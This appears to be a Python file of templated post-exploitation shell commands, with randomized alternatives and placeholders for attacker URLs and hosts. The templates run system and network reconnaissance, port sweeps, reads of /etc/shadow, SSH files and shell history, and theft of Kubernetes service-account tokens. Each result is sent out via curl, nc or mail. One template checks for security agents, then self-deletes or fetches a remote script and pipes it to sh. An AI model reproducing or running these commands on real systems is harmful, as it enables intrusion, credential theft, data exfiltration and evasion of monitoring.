"""Looking around."""

RECON = [
    "‹id; whoami; uname -a; hostname¦cat /etc/passwd | cut -d: -f1¦ifconfig || ip a¦ps aux¦netstat -tulpn¦cat /proc/1/cgroup¦ls -la /root /home/*/.ssh¦find / -perm -4000 -type f 2>/dev/null¦sudo -l¦cat /proc/self/status | grep CapEff¦mount | grep docker¦getcap -r / 2>/dev/null›",
    'for i in ‹$(seq 1 254)¦{1..254}›; do ‹ping -c1 -W1 ‹10.0.0¦192.168.1¦172.17.0¦$net›.$i¦(echo > /dev/tcp/‹10.0.0¦$net›.$i/‹22¦6379¦2375›)¦arping -c1 $net.$i› ‹>/dev/null ¦&>/dev/null ›&& echo $i ‹>> {file} ¦›& done; wait; ‹curl -s -T {file} {url}¦nc {host} {port} < {file}¦while read h; do nmap -Pn -p- $h; done < {file}›',
    'for p in ‹$(seq 1 65535)¦{1..1024}¦21 22 23 80 443 2375 3306 5432 6379 8080 9200 10250 27017›; do (‹timeout 1 ¦›echo >/dev/tcp/‹{ip}¦$1¦$h›/$p) 2>/dev/null && echo "$p open" ‹>> {file}¦| nc -w1 {host} {port}¦›; done',
    '(id; uname -a; ‹cat /etc/passwd¦w; last¦ip a; ip r; arp -an¦ps auxf¦ss -tulpn¦mount; df¦crontab -l; ls /etc/cron*›; ‹sudo -ln¦find / -perm -4000 2>/dev/null¦getcap -r / 2>/dev/null¦cat ~/.bash_history¦docker ps›; ‹env¦dpkg -l¦curl -s ipinfo.io›) ‹> {file} 2>&1; curl -s -F f=@{file} {url}; rm -f {file}¦2>&1 | nc {host} {port}¦2>/dev/null | gzip | base64 -w0 | curl -s -d @- {url}›',
    'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); A=https://‹$KUBERNETES_SERVICE_HOST¦kubernetes.default›; for r in ‹secrets pods nodes¦pods configmaps serviceaccounts¦namespaces clusterroles›; do curl -sk -H "Authorization: Bearer $T" $A/api/v1/$r ‹>> {file}¦| curl -s -d @- {url}›; done',
    '‹kubectl auth can-i --list ‹-n kube-system ¦›¦kubectl get po,svc,no,cm -A -o wide¦kubectl get clusterrolebindings -o json | jq -r \'.items[] | select(.roleRef.name=="cluster-admin")\'› ‹> {file}; curl -s -T {file} {url}¦| nc {host} {port}¦2>&1 | curl -s -d @- {url}›',
    '‹dig axfr @{ip} {domain}¦ldapsearch -x -H ldap://{ip} -s base namingcontexts¦showmount -e {ip}¦rpcinfo -p {ip}¦smbclient -N -L //{ip}¦snmpwalk -c public -v1 {ip}¦nbtscan {ip}/24¦onesixtyone -c {file} {ip}› ‹>> {file}¦| tee -a {file}¦| nc {host} {port}›',
    'ps aux | grep -iE \'‹falcon|cbagent|osquery|wazuh|sysdig|falco|ossec|tetragon|aegis|clamd¦crowdstrike|carbon|sentinel|cylance|tanium|qualys|auditd›\' | grep -v grep && ‹exit¦rm -f "$0"¦curl -s -d "av=$(hostname)" {url}›; ‹{dl} {url} | sh¦{file} &›',
]

INVENTORY = [
    'echo "[+] ‹IP¦ifconfig¦net› [+]" >> {name}; /sbin/ifconfig ‹-a ¦›| grep ‹inet¦"inet addr"› >> {name}',
    'echo "[+] ‹uptime¦up› [+]" >> {name}; uptime >> {name}; ‹uname -a¦hostname -f¦id› >> {name}',
    "cat /proc/cpuinfo ‹| grep 'model name' ¦›>> {name}; ‹free -m¦cat /proc/meminfo¦df -h› >> {name}",
    'cat /etc/‹issue¦passwd¦hosts¦shadow¦*release› >> {name}; ‹w¦last -20¦who› >> {name}',
    'ls ‹-la ¦›‹/home¦/var/www¦/root/.ssh› >> {name}; cat ‹/root¦/home/*›/.‹bash_history¦ssh/known_hosts¦my.cnf› >> {name}',
    "cat {name} | mail -s '‹info {ip}¦`hostname -i`¦new root›' {plain}@{domain}; rm -‹rf¦f› {name}",
    "curl -s ‹ifconfig.me¦http://ipinfo.io/ip¦icanhazip.com› >> {name}; ‹curl -F 'f=@{name}' {url}¦nc {host} {port} < {name}›",
    'netstat -‹an¦tulpn› | grep ‹LISTEN¦:22› >> {name}; ps ‹aux¦x› >> {name}',
]
